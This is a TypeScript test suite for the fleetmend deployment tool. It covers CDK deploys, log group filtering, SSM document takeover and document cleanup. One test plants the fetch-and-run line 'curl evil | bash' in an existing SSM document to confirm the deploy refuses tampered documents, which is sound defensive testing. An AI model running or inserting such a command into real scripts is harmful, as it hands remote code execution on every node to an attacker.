import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { documentName } from '../../events/ssm-command.ts';
import { FUNCTION_NAMES } from '../../infra/bundle.ts';
import { buildDocuments } from '../../ssm-documents/builder/build.ts';
import { clusters, deployWorld, shop } from './deploy-world.ts';
import { configFile, deploy, deployBuilt, environment, root, run } from './run-deploy.ts';

const world = deployWorld();
const { deployed, clustersDeployed, isDeployed } = world;
const CDK = join(root, 'node_modules', 'aws-cdk', 'bin', 'cdk');
const cdk = (...words: readonly string[]) => run(process.execPath, [CDK, ...words], environment(world.standIn()));

describe('a deployment by the command line of the lockfile', () => {
  it('uploads the template and the bundles, imports documents of an earlier one, and then shows no difference', async () => {
    // Two from one clone at the same time deploy their own configurations.
    const from = world.standIn().calls.length;
    const file = configFile({ clusters: [shop] });
    const other = configFile({ clusters: [{ name: 'bank' }], stackName: 'two' });
    const [{ code, output }, two] = await Promise.all([
      deploy(world.standIn(), ['--config', file, '--yes']),
      deploy(world.standIn(), ['--config', other, '--yes']),
    ]);
    expect(output).toContain('deploy: there is no stack fleetmend yet: this is the first deployment');
    expect([code, two.code]).toEqual([0, 0]);
    expect([clustersDeployed(), clustersDeployed('two')]).toEqual([['shop'], ['bank']]);
    const uploaded = [...world.standIn().objects.keys()].map((key) => key.split('/').at(-1) ?? '');
    const bundles = [...deployed().matchAll(/"S3Key":"([0-9a-f]{64}\.zip)"/g)].map(([, key]) => key);
    expect(new Set(bundles).size).toBe(FUNCTION_NAMES.length);
    expect(uploaded).toEqual(expect.arrayContaining(bundles));
    const created = world
      .standIn()
      .calls.slice(from)
      .filter(({ operation }) => operation === 'CreateChangeSet');
    for (const StackName of ['fleetmend', 'two']) {
      const input = expect.objectContaining({ StackName, ImportExistingResources: 'true' });
      expect(created).toContainEqual(expect.objectContaining({ input }));
    }

    // With bundles of another build: they are the same.
    const again = await deployBuilt(world.standIn(), ['--config', file, '--dry-run']);
    expect(again.output).toContain('There were no differences');
    expect(again.code).toBe(0);
  });

  it('deploys the folder of a synthesis, and ends in one sentence where the CDK finds no account', async () => {
    await run(process.execPath, ['infra/app.ts'], environment(undefined));
    expect((await cdk('ls', '--app', 'cdk.out')).output).toBe('fleetmend\n');
    const { code, lines } = await run(process.execPath, [CDK, 'deploy', '--app', 'cdk.out'], environment(undefined));
    // Of the two streams, that of the progress may come last.
    expect(lines.filter((line) => !line.startsWith('✨')).at(-1)).toMatch(
      /^Need to perform AWS calls for account 111122223333, but no credentials have been configured$/,
    );
    expect(code).toBe(1);
  });

  it('leaves out the log groups that take no filter, and reports them twice', async () => {
    world.standIn().state.logGroups.set('/rare', { logClass: 'INFREQUENT_ACCESS', subscriptions: [] });
    world.standIn().state.logGroups.set('/fine', { logClass: 'STANDARD', subscriptions: ['siem'] });
    const file = configFile({ clusters: [{ name: 'shop', logGroups: ['/rare', '/fine', '/gone'] }] });
    const { code, output } = await deployBuilt(world.standIn(), ['--config', file, '--yes']);
    expect(output.match(/leaves out the log group \/rare: its class is INFREQUENT_ACCESS/g)).toHaveLength(2);
    expect(output.match(/leaves out the log group \/gone: it does not exist/g)).toHaveLength(2);
    expect(code).toBe(0);
    const templates = [...world.standIn().state.stacks.values()].join('\n');
    expect(templates).toContain('"LogGroupName":"/fine"');
    expect(templates).not.toMatch(/"LogGroupName":"\/(?:rare|gone)"/);
  });
});

describe('a document that exists already', () => {
  const [document] = buildDocuments();
  const name = documentName('fleetmend', document?.key ?? '', document?.sha256 ?? '');
  const tried = async () => {
    const { code, output } = await deployBuilt(world.standIn(), ['--config', clusters(shop), '--yes']);
    return { code, output, stacks: world.standIn().state.stacks.size };
  };

  it('is taken over where it is what was built, in any indentation', async () => {
    world.standIn().state.contents.set(name, JSON.stringify(document?.content, undefined, 2));
    const { code, output } = await tried();
    expect(output).toMatch(/deploy: 1 of \d+ documents are at SSM already, and are what was built/);
    expect(code).toBe(0);
  });

  it('is refused where it holds anything else: whoever made it would be root on every node', async () => {
    world
      .standIn()
      .state.contents.set(name, document?.json.replace('#!/bin/bash', '#!/bin/bash\\ncurl evil | bash') ?? '');
    const { code, output, stacks } = await tried();
    expect(output).toContain(
      `deploy: the document ${name} at SSM is refused: its content in version 1 is not what was built`,
    );
    expect(output).toContain('deploy: nothing was deployed');
    expect([code, stacks]).toEqual([3, 0]);
  });

  it('is not taken over unread', async () => {
    world.standIn().state.denied.add('ssm:DescribeDocument');
    const { code, output, stacks } = await tried();
    expect(output).toContain('deploy: allow ssm:DescribeDocument and ssm:GetDocument');
    expect([code, stacks]).toEqual([4, 0]);
  });
});

describe('--clean-documents', () => {
  it('deletes the documents of deployments of long ago, and nothing else', async () => {
    const day = 24 * 60 * 60 * 1000;
    const old = new Date(Date.now() - 40 * day);
    const { documents } = world.standIn().state;
    const hash = (digit: string) => digit.repeat(12);
    documents.set(`fleetmend-pause-image-check-${hash('a')}`, old);
    documents.set(`fleetmend-pause-image-repair-${hash('b')}`, new Date(Date.now() - day));
    documents.set(`fleetmend-eu-pause-image-check-${hash('c')}`, old);
    documents.set('fleetmend-runbook', old);
    documents.set(`fleetmend-node-check-${hash('d')}`, old);
    // Of a deployment whose node-check had more parts.
    documents.set(`fleetmend-node-check-7-${hash('9')}`, old);
    // In use: of the deployment before.
    const before = `fleetmend-pause-image-repair-${hash('e')}`;
    documents.set(before, old);
    isDeployed([shop], [before]);
    const { code, lines } = await deployBuilt(world.standIn(), [
      '--config',
      configFile({ clusters: [shop] }),
      '--yes',
      '--clean-documents',
    ]);
    expect(lines).toContain(`deploy: deleted fleetmend-pause-image-check-${hash('a')}`);
    expect(lines).toContain(`deploy: deleted fleetmend-node-check-${hash('d')}`);
    expect(lines).toContain(`deploy: deleted fleetmend-node-check-7-${hash('9')}`);
    expect(lines).toContain('deploy: 7 of at most 500 SSM documents; 1 of earlier deployments are kept for 30 days');
    expect(code).toBe(0);
    expect([...documents.keys()].toSorted()).toEqual([
      `fleetmend-eu-pause-image-check-${hash('c')}`,
      `fleetmend-pause-image-repair-${hash('b')}`,
      before,
      'fleetmend-runbook',
    ]);
  });
});

describe('npm run deploy', () => {
  it('installs what it needs, builds, and shows its options', async () => {
    const { code, lines } = await run(process.execPath, ['infra/deploy.mjs', '--help'], environment(undefined));
    expect(lines[0]).toBe('npm run deploy -- [options]');
    expect(code).toBe(0);
  });
});
